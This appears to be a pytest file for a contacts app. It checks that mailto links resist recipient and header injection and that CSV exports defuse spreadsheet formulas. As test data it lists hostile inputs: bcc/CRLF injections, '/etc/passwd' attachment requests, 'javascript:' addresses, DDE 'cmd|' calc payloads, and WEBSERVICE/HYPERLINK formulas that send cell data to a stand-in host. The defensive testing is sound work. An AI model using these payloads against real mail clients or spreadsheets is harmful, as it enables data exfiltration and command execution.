"""What people or files wrote, in links that write a letter and in tables for spreadsheets: never more than text."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from contextlib import closing
from itertools import product
from typing import TYPE_CHECKING
from urllib.parse import parse_qsl, unquote, urlsplit

import pytest

from netgrow_desktop.domain.before_writing.mailto import is_writable, mail_link
from netgrow_desktop.domain.contacts import ContactDraft, CustomField, Email, Phone
from netgrow_desktop.domain.queries import ContactQuery
from netgrow_desktop.services.contacts import ContactService
from netgrow_desktop.services.exports import write
from netgrow_desktop.storage.network import create_network
from tests.services.files import imported, people

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from netgrow_desktop.storage.network import Network

BCC = "bcc=eve@x.example"
HOSTILE_ADDRESSES = (
    f"ada@x.example?{BCC}",
    f"ada@x.example&{BCC}",
    f"ada@x.example%3F{BCC}",
    f"ada?{BCC}&x@x.example",
    f"ada%0D%0ABcc:eve@x.example?{BCC}",
    "ada@x.example,eve@x.example",
    "ada@x.example;eve@x.example",
    "ada@x.example%2Ceve@x.example",
    "ada@x.example\r\nBcc: eve@x.example",
    "ada@x.example\nBcc: eve@x.example",
    "ada@x.example\u2028Bcc: eve@x.example",
    "Ada <ada@x.example>, Eve <eve@x.example>",
    '"ada@x.example?bcc=eve"@x.example',
    "ada@x.example#?attach=/etc/passwd",
    "javascript:alert(1)//@x.example",
    "file:///etc/passwd@x.example",
)
HOSTILE_TEXTS = (
    f"Hello&{BCC}",
    f"Hello?{BCC}",
    f"Hello#&{BCC}",
    "Hello\r\nBcc: eve@x.example",
    "Hello%0D%0ABcc:eve@x.example",
    "Hello\u2028Bcc: eve@x.example",
    "&attach=/etc/passwd&attachment=/etc/passwd",
    "\x00\x1b]0;title\x07&cc=eve@x.example",
    "\ud800&to=eve@x.example",
)


def parts(link: str) -> tuple[str, dict[str, str]]:
    """Give the address and the fields of a link as Python reads them, which knows nothing of ours."""
    read = urlsplit(link)
    assert read.scheme == "mailto"
    assert read.fragment == ""
    fields = parse_qsl(read.query, keep_blank_values=True, strict_parsing=bool(read.query))
    assert len(fields) == len(dict(fields))
    return unquote(read.path), dict(fields)


@pytest.mark.parametrize("address", HOSTILE_ADDRESSES)
def test_a_hostile_address_is_refused_or_stays_one_recipient(address: str) -> None:
    if not is_writable(address):
        with pytest.raises(ValueError, match=re.escape(address)):
            mail_link(address, "Hello", "Hello")
        return
    link = mail_link(address, "Hello", "Hello")

    assert parts(link) == (address, {"subject": "Hello", "body": "Hello"})
    assert not set(link.partition("?")[0]) & set(',;<>"\r\n# ')


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_a_hostile_text_stays_the_subject_and_the_body(text: str) -> None:
    link = mail_link("ada@x.example", text, text)
    address, fields = parts(link)

    assert address == "ada@x.example"
    assert set(fields) == {"subject", "body"}
    assert "\n" not in fields["subject"]
    assert not set(link) & set("\r\n\x00\x1b# ")


def test_a_link_that_is_put_together_without_care_is_found_out() -> None:
    _, fields = parts(f"mailto:ada@x.example?subject={HOSTILE_TEXTS[0]}")

    assert set(fields) == {"subject", "bcc"}


# Formulas

BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", "\uff1d", "\uff20")
CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"Click")',
    'WEBSERVICE("http://x.example/"&A1)',
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "SUM(A1:A9)*cmd|'/c calc'!A1",
)
FORMULAS = tuple(beginning + call for beginning, call in product(BEGINNINGS, CALLS))
RUNS = re.compile(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
PHONE = re.compile(r"\+[\d ()-]+")


@pytest.fixture(scope="module")
def network(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Network]:
    """Give a network of people whose every text is a formula."""
    with closing(create_network(tmp_path_factory.mktemp("formulas") / "a.netgrow")) as made:
        for formula in FORMULAS:
            ContactService(made).add(
                ContactDraft(
                    name=f"Ada {formula}",
                    organization=formula,
                    title=formula,
                    notes=formula,
                    emails=(Email("ada@x.example", formula),),
                    phones=(Phone("+49 30 5555-0100", formula),),
                    custom=(CustomField("Pet", formula), CustomField(formula, "Ferret")),
                    tags=(formula,),
                )
            )
        yield made


def exported(network: Network, kind: str) -> str:
    out = io.StringIO(newline="")
    assert write(network, kind, out) == len(FORMULAS)
    return out.getvalue()


@pytest.mark.parametrize("kind", ["csv", "google-csv"])
def test_no_cell_of_sixty_people_made_of_formulas_is_run_by_a_spreadsheet(network: Network, kind: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(exported(network, kind), newline="")) for cell in row]

    assert len(FORMULAS) == 60
    assert [cell for cell in cells if RUNS.match(cell) and not PHONE.fullmatch(cell)] == []
    assert sum("cmd|" in cell for cell in cells) >= 60


@pytest.mark.slow
@pytest.mark.timeout(300)
@pytest.mark.parametrize(("kind", "formulas"), [("csv", 0), ("google-csv", 0), ("careless", 6)])
def test_a_spreadsheet_that_opens_a_table_of_formulas_runs_none(
    network: Network, tmp_path: Path, kind: str, formulas: int
) -> None:
    """The careless table has the calls as they are, for what it finds must be found."""
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("NOT PROVEN: LibreOffice, which would run the formulas, is not installed")
    table = tmp_path / "people.csv"
    careless = "".join(f'"={call.replace(chr(34), 2 * chr(34))}"\n' for call in CALLS)
    table.write_text(careless if kind == "careless" else exported(network, kind), encoding="utf-8", newline="")
    settings = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    opening = ("--headless", "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(tmp_path))
    subprocess.run([program, settings, *opening, str(table)], check=True, capture_output=True)
    opened = (tmp_path / "people.fods").read_text(encoding="utf-8")

    assert opened.count("table:formula=") == formulas
    assert opened.count("cmd|") >= 2


def test_formulas_come_back_from_our_table_as_they_were(network: Network, tmp_path: Path) -> None:
    (tmp_path / "people.csv").write_text(exported(network, "csv"), encoding="utf-8", newline="")

    with closing(create_network(tmp_path / "b.netgrow")) as other:
        imported(other, tmp_path / "people.csv")
        assert len(ContactService(other).find(ContactQuery())) == len(FORMULAS)
        for before, after in zip(people(network), people(other), strict=True):
            assert (after.organization, after.title, after.notes) == (before.organization, before.title, before.notes)
            assert (after.custom, after.phones, after.tags) == (before.custom, before.phones, before.tags)
